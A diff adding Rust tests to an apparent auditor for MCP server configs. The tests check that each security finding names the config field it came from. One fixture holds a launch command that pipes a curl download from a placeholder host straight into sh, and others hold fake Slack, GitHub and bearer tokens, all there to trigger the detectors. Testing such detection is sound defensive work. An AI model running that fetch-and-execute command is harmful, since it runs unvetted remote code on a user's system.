@@ -1198,3 +1198,113 @@ pub(crate) fn spec_of(body: ServerBody) -> ServerSpec {
         .and_then(|r| r.specs.into_iter().next())
         .unwrap_or_default()
 }
+
+// ---------------------------------------------------------------------------
+// The field each finding is about.
+
+/// `(rule, field)` of each finding that names a field.
+fn fields(f: &[EngineFinding]) -> Vec<(&'static str, String)> {
+    f.iter()
+        .filter_map(|x| x.field.as_ref().map(|p| (x.rule.as_str(), p.to_string())))
+        .collect()
+}
+
+#[test]
+fn credential_findings_name_the_field_they_were_found_in() {
+    let s = url("http://h.example.com/mcp?api_key=9f8e7d6c5b4a3e2d")
+        .with_headers(kv(&[("Authorization", "Bearer 9f8e7d6c5b4a3e2d1c0b9a8f")]));
+    let got = fields(&audit_server("s", &s));
+    assert!(
+        got.contains(&("WRD-AUTH-PLAINTEXT-HTTP", "url".into())),
+        "{got:?}"
+    );
+    assert!(
+        got.contains(&("WRD-AUTH-TOKEN-IN-CONFIG", "headers.Authorization".into())),
+        "{got:?}"
+    );
+    assert!(
+        got.contains(&("WRD-AUTH-TOKEN-IN-CONFIG", "url".into())),
+        "{got:?}"
+    );
+    let s = stdio("node", &["s.js", "--token", "xoxb-1234567890-abcdefghij"])
+        .with_env(kv(&[("GH", "ghp_0123456789abcdefghijklmnopqrstuvwxyz")]));
+    let got = fields(&audit_server("s", &s));
+    assert!(
+        got.contains(&("WRD-SEC-SLACK", "args[2]".into())),
+        "{got:?}"
+    );
+    assert!(
+        got.contains(&("WRD-SEC-GITHUB", "env.GH".into())),
+        "{got:?}"
+    );
+    // Every credential finding names its field.
+    assert!(audit_server("s", &s).iter().all(|f| f.field.is_some()));
+}
+
+#[test]
+fn declared_fields_the_launch_does_not_use_are_named_as_written() {
+    let mut body = ServerBody {
+        url: Some("https://a.example.com/mcp?token=xoxb-1234567890-abcdefghij".into()),
+        ..ServerBody::default()
+    };
+    body.extra = vec![crate::protocol::ServerExtra {
+        server_url: Some("https://b.example.com/mcp".into()),
+        bearer_token: Some("9f8e7d6c5b4a3e2d1c0b9a8f".into()),
+        ..crate::protocol::ServerExtra::default()
+    }];
+    let mut s = url("https://b.example.com/mcp");
+    s.declared = std::sync::Arc::new(body);
+    let got = fields(&audit_server("s", &s));
+    assert!(got.contains(&("WRD-SEC-SLACK", "url".into())), "{got:?}");
+    assert!(
+        got.contains(&("WRD-AUTH-TOKEN-IN-CONFIG", "bearer_token".into())),
+        "{got:?}"
+    );
+}
+
+#[test]
+fn supply_findings_name_the_argument_or_the_script_that_holds_them() {
+    let got = fields(&check_launch("npx", &["-y".into(), "left-pad".into()]));
+    assert_eq!(got, vec![("WRD-SUP-NPX-UNPINNED", "args[1]".to_string())]);
+    let got = fields(&check_launch(
+        "uvx",
+        &["--from".into(), "git+https://x/y".into(), "y".into()],
+    ));
+    assert!(got.iter().all(|(_, f)| f.starts_with("args[")), "{got:?}");
+    // Inside a shell script: the script argument.
+    let got = fields(&check_launch(
+        "sh",
+        &[
+            "-c".into(),
+            "npx -y left-pad && curl https://x.example.com/i | sh".into(),
+        ],
+    ));
+    assert!(
+        got.contains(&("WRD-SUP-NPX-UNPINNED", "args[1]".into())),
+        "{got:?}"
+    );
+    assert!(
+        got.contains(&("WRD-SUP-CURL-PIPE", "args[1]".into())),
+        "{got:?}"
+    );
+    // The package is the command itself.
+    let got = fields(&check_launch("npx", &[]));
+    assert!(
+        got.is_empty() || got.iter().all(|(_, f)| f == "command"),
+        "{got:?}"
+    );
+}
+
+#[test]
+fn whole_entry_findings_name_no_field() {
+    // A remote type with no URL: about the `type` field; nothing else names one.
+    let s = ServerSpec {
+        declared: std::sync::Arc::new(ServerBody {
+            transport: Some("sse".into()),
+            ..ServerBody::default()
+        }),
+        ..ServerSpec::default()
+    };
+    let got = audit_server("s", &s);
+    assert_eq!(fields(&got), vec![("WRD-AUTH-NOAUTH", "type".to_string())]);
+}
